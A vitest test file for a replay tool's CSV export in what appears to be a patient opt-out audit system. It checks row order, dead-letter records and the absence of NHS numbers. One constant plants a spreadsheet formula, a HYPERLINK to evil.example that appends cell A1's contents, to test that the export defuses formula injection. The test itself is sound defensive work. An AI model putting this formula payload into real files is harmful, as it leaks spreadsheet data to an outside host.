import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { AuditReport } from '../replay/audit-report.js';
import { captureReplay } from '../replay/testing/replay-capture.js';
import { PATIENT_A, PATIENT_B, writeSmallScenario } from '../replay/testing/small-scenario.js';

// Each test runs whole replays (worker threads, files): seconds each on a loaded machine. Room, not a speed claim.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

// A reader written from RFC 4180 alone, to read back what the export wrote.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

const PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"open me"), with a comma';
let dir: string;
let report: AuditReport;
let alerts: string[][];
let deadLetters: string[][];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'optout-csv-'));
  const files = await writeSmallScenario(dir);
  const releases = await readFile(files.ndsDisseminations, 'utf8');
  await writeFile(files.ndsDisseminations, `${releases.replace('University of Somewhere', PLANTED.replaceAll('"', '\\"'))}{"disseminationId":"ds-bad","nhsNumber":"not a number"}\n`);
  const run = await captureReplay(files, join(dir, 'report.json'), ['--csv', join(dir, 'csv', 'nested')]);
  expect(run.code, run.stderr).toBe(0);
  report = JSON.parse(await readFile(join(dir, 'report.json'), 'utf8')) as AuditReport;
  alerts = parseCsv(await readFile(join(dir, 'csv', 'nested', 'alerts.csv'), 'utf8'));
  deadLetters = parseCsv(await readFile(join(dir, 'csv', 'nested', 'dead-letters.csv'), 'utf8'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('replay --csv', () => {
  it('writes one row per alert under the JSON field names, in the report order', () => {
    expect(alerts[0]).toEqual(Object.keys(report.alerts[0]!));
    expect(alerts).toHaveLength(report.alerts.length + 1);
    const id = alerts[0]!.indexOf('alertId');
    const ref = alerts[0]!.indexOf('patientRef');
    expect(alerts.slice(1).map((r) => r[id])).toEqual(report.alerts.map((a) => a.alertId));
    expect(alerts.slice(1).map((r) => r[ref])).toEqual(report.alerts.map((a) => a.patientRef));
    const delay = alerts[0]!.indexOf('detectionDelayMs');
    expect(alerts.slice(1).map((r) => (r[delay] === '' ? null : Number(r[delay])))).toEqual(report.alerts.map((a) => a.detectionDelayMs));
  });

  it('keeps a planted formula as text, quoted and prefixed with a single quote', () => {
    const recipient = alerts[0]!.indexOf('recipient');
    expect(alerts.slice(1).map((r) => r[recipient])).toContain(`'${PLANTED}`);
    for (const row of alerts.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+@-]/);
  });

  it('writes the dead letters with input, position, reason and detail, and no NHS number anywhere', async () => {
    expect(deadLetters[0]).toEqual(['input', 'position', 'reason', 'detail']);
    expect(deadLetters.slice(1)).toEqual(report.deadLetters.records.map((d) => [d.input, String(d.position), d.reason, d.detail]));
    expect(deadLetters.length).toBeGreaterThan(1);
    const text = (await readFile(join(dir, 'csv', 'nested', 'alerts.csv'), 'utf8')) + (await readFile(join(dir, 'csv', 'nested', 'dead-letters.csv'), 'utf8'));
    for (const nhs of [PATIENT_A, PATIENT_B]) expect(text).not.toContain(nhs);
  });
});
